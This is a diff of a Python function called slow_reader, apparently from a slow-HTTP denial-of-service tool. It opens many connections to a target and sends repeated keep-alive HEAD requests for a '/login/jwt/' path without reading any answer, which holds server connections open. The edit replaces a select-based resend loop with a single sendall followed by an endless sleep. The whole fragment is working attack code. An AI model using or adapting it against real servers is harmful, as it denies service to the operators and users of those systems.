@@ -66,17 +66,12 @@ def slow_chunks(target):
 
 
 def slow_reader(target):
-    """Asks again and again on one connection, and reads no answer."""
+    """Asks many times on one connection, and reads no answer."""
     asked = target.head("/login/jwt/", "Content-Length: 0").replace(b"close", b"keep-alive") + b"\r\n"
     sockets = [target.connect() for _ in range(CLIENTS)]
-    while True:
-        _, writable, _ = select.select([], sockets, [], PAUSE)
-        for client in writable:
-            client.setblocking(False)
-            try:
-                client.send(asked * 10)
-            except OSError:
-                sockets.remove(client)
+    for client in sockets:
+        client.sendall(asked * 20)
+    while sockets:
         time.sleep(PAUSE)
 
 
